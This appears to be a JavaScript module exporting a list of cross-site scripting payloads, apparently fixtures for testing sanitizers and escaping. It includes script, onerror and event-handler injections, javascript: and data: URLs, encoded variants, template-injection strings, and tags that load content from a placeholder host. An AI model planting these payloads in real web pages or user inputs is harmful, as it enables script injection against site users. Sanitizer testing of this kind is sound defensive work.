// Texts that do harm where they are taken for markup, an address or code.
export const payloads = [
  ...['<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<svg onload=alert(1)>', '<iframe src="javascript:alert(1)"></iframe>', '<b>bold</b>', '"><img src=x onerror=alert(1)>', "'><script>alert(1)</script>"],
  ...['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '</option></select><img src=x onerror=alert(1)>', '</title><script>alert(1)</script>', '<!--<img src=x onerror=alert(1)>-->', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">'],
  ...['onfocus', 'onmouseover', 'ontoggle', 'onpointerenter', 'onanimationstart', 'onbegin', 'onbeforeinput'].flatMap((on) => [`" ${on}=alert(1) autofocus x="`, `' ${on}=alert(1) x='`, `<details open ${on}=alert(1)>`, `<input autofocus ${on}=alert(1)>`]),
  ...['&lt;img src=x onerror=alert(1)&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '\\u003cimg src=x onerror=alert(1)\\u003e', '%3Cimg%20src=x%20onerror=alert(1)%3E', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>'],
  ...['<template><img src=x onerror=alert(1)></template>', '<noscript><img src=x onerror=alert(1)></noscript>', '<style>@import"//x"</style>', '<link rel=import href=//x>', '<base href=//x>', '<meta http-equiv=refresh content=0;url=//x>', '<object data=//x>', '<embed src=//x>', '<form action=//x><button>', '<a href=javascript:alert(1)>x</a>', '<video><source onerror=alert(1)>', '<body onload=alert(1)>', '\u2028alert(1)//', '*/alert(1)/*', '[x](javascript:alert(1))'],
];
